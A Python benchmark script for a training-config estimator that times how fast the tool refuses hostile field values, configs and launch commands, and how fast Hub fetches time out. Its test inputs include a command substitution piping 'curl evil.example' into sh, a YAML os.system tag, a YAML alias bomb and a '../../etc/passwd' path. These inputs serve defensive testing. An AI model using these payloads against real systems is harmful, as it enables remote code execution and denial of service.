"""What hostile or unreachable input costs: the time to refuse it, or to give up on it.

    python bench/bench_refusals.py [--repeat 5]

Each line is the slowest case of a group, its time the minimum over --repeat runs:
- a field's text (a CLI flag, a URL parameter) refused by `values.parse_text`: 100,000 digits, "1e30",
  "nan", ... (tests/test_fields.py's cases);
- a hostile JSON config refused by `python -m estimator estimate` (tests/test_fields.py's HOSTILE: 10^8
  layers, a 2 MB name, 2^62 GPUs, ...), and a 100,000-digit --seq-len, --tp or --dropout;
- a hostile launch configuration refused by `import_config`: command substitutions, text over
  MAX_BYTES (800 KB to 12 MB, 10^6 TOML keys), YAML !!python tags and a 9^10-value alias bomb;
- the Hub: a fetch from a closed port (timeout 3 s) and from a server that answers after 3 s (timeout
  0.5 s), each time to give up (tests/hub_server.py's loopback server; no network).

The tests hold what keeps each bounded as counts and named refusals (the length gate, the size check,
the alias count, the field checks before any estimate, the bounded wait); the times are this
benchmark's to measure.
"""

from __future__ import annotations

import argparse
import contextlib
import io
import json
import os
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))
sys.path.insert(0, str(ROOT / "tests"))
os.environ["HF_HOME"] = tempfile.mkdtemp(prefix="bench-refusals-hf-")  # a fresh cache, before huggingface_hub loads
for _name in ("HF_TOKEN", "HF_HUB_OFFLINE", "TRANSFORMERS_OFFLINE", "HF_HUB_CACHE"):
    os.environ.pop(_name, None)

from estimator import ConfigError  # noqa: E402
from estimator.cli import main as cli_main  # noqa: E402
from estimator.importers import import_config  # noqa: E402
from estimator.importers.source import parse_yaml  # noqa: E402
from estimator.spec import fields, values  # noqa: E402

TEXTS = [("parallel.tp", "9" * 100_000), ("parallel.tp", "1e3"), ("parallel.tp", "four"),
         ("training.seq_len", "1e30"), ("training.dropout", "nan"), ("training.moe_capacity_factor", "inf"),
         ("parallel.zero_stage", "7"), ("hardware.gpu", "../../etc/passwd"), ("training.dropout", "9" * 100_000)]
BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(9))
LAUNCHES = [
    ("openrlhf", "python3 -m openrlhf.cli.train_sft --model.model_name_or_path $(curl evil.example | sh)", {}),
    ("openrlhf", "python3 -m openrlhf.cli.train_sft " + "--data.max_len 4096 " * 40_000, {}),
    ("slime", "python3 train.py --rollout-batch-size 8 " + "--hf-checkpoint a/b " * 60_000, {}),
    ("hf", "model_name_or_path: a/b\nper_device_train_batch_size: 1\n" + "x: 1\n" * 60_000, {}),
    ("hf", "model_name_or_path: !!python/object/apply:os.system ['true']\nper_device_train_batch_size: 1\n", {}),
    ("megatron-bridge", BOMB, {"overrides": ("--recipe", "llama3_8b_pretrain_config")}),
    ("megatron-bridge", "model:\n  tensor_model_parallel_size: 2\n" * 30_000,
     {"overrides": ("--recipe", "llama3_8b_pretrain_config")}),
    ("torchtitan", "[parallelism]\n" + "".join(f"k{i} = 1\n" for i in range(10**6)), {}),
    ("megatron", "pretrain_gpt.py --num-layers $(touch /nonexistent/ran) --hidden-size 8", {}),
]


def slowest(cases, run, repeat: int) -> tuple[float, str]:
    """(seconds, name) of the case whose best of `repeat` runs is the longest."""
    worst = (0.0, "")
    for name, case in cases:
        best = min(_timed(run, case) for _ in range(repeat))
        worst = max(worst, (best, name))
    return worst


def _timed(run, case) -> float:
    start = time.perf_counter()
    run(case)
    return time.perf_counter() - start


def refused(call) -> None:
    try:
        call()
    except ConfigError:
        return
    raise SystemExit(f"not refused: {call}")


def cli_refused(argv: list[str]) -> None:
    with contextlib.redirect_stderr(io.StringIO()), contextlib.redirect_stdout(io.StringIO()):
        if cli_main(argv) != 2:
            raise SystemExit(f"not refused: {argv[:4]}")


def hub_give_up(repeat: int) -> list[str]:
    import socket

    from hub_server import FakeHub
    from estimator.models import hub
    server = FakeHub().start()
    server.add("org/slow", {"config.json": {"model_type": "llama"}}, delay=3.0)
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        closed = f"http://127.0.0.1:{s.getsockname()[1]}"
    lines = []
    try:
        for what, endpoint, timeout in (("a closed port", closed, 3.0), ("a server answering after 3 s", server.endpoint,
                                                                          0.5)):
            times = []
            for _ in range(repeat):
                start = time.perf_counter()
                try:
                    hub.fetch_config("org/slow", endpoint=endpoint, timeout=timeout)
                except hub.HubError:
                    times.append(time.perf_counter() - start)
            lines.append(f"Hub, {what}: gave up after {min(times) * 1e3:.0f} ms (timeout {timeout:g} s)")
    finally:
        server.stop()
    return lines


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--repeat", type=int, default=5)
    repeat = parser.parse_args().repeat
    from test_fields import HOSTILE

    seconds, name = slowest([(f"{p}={t[:12]}", (p, t)) for p, t in TEXTS],
                            lambda c: refused(lambda: values.parse_text(fields.BY_PATH[c[0]], c[1])), repeat)
    print(f"field text refused (parse_text, {len(TEXTS)} cases): slowest {seconds * 1e3:.2f} ms ({name})")
    with tempfile.TemporaryDirectory() as tmp:
        paths = []
        for i, (config, field) in enumerate(HOSTILE):
            path = Path(tmp) / f"hostile-{i}.json"
            path.write_text(json.dumps(config))
            paths.append((f"#{i} {field}", ["estimate", "--config", str(path), "--json"]))
        seconds, name = slowest(paths, cli_refused, repeat)
        print(f"hostile config refused (CLI estimate, {len(paths)} configs): slowest {seconds * 1e3:.1f} ms ({name})")
        good = Path(tmp) / "good.json"
        good.write_text('{"model": "llama-3.1-8b"}')
        flags = [(flag, ["estimate", "--config", str(good), flag, "9" * 100_000])
                 for flag in ("--seq-len", "--tp", "--dropout")]
        seconds, name = slowest(flags, cli_refused, repeat)
        print(f"100,000-digit flag refused (CLI estimate): slowest {seconds * 1e3:.1f} ms ({name})")
    seconds, name = slowest([(f"{kind} {len(text):,} chars", (kind, text, kw)) for kind, text, kw in LAUNCHES],
                            lambda c: refused(lambda: import_config(c[1], c[0], gpus=8, **c[2])), repeat)
    print(f"hostile launch configuration refused (import_config, {len(LAUNCHES)} cases): slowest "
          f"{seconds * 1e3:.1f} ms ({name})")
    seconds, _ = slowest([("bomb", BOMB)], lambda text: refused(lambda: parse_yaml(text, "bomb.yaml")), repeat)
    print(f"YAML alias bomb (9^10 values) refused (parse_yaml): {seconds * 1e3:.1f} ms")
    for line in hub_give_up(max(1, min(repeat, 2))):
        print(line)


if __name__ == "__main__":
    main()
